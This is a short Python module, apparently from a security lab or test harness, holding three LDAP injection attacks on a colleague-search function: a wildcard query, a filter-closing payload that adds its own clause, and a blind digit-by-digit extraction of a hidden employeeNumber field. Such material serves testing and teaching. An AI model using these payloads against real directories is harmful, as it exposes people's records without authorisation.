"""Attacks by a name that is searched for."""

from prover import Target

from .stage import Stage


def attack_everybody(target: Target, stage: Stage) -> bool:
    """Search for the sign that stands for anything."""
    found = target.find_colleague(stage.directory, "*")
    print(found)
    return len(found) > 1


def attack_everybody_else(target: Target, stage: Stage) -> bool:
    """Close the condition, and add one of one's own."""
    found = target.find_colleague(stage.directory, "*)(!(uid=ana)")
    print(found)
    return bool(found == ["ben (temp)"]) or len(found) > 1


def attack_guess_a_number(target: Target, stage: Stage) -> bool:
    """Ask about a field that the search does not show, a digit at a time."""
    known = ""
    for _ in range(4):
        for digit in "0123456789abcdef":
            name = f"ana)(employeeNumber={known}{digit}*"
            if target.find_colleague(stage.directory, name):
                known += digit
                break
        else:
            return False
    print(known)
    return known == "1111"
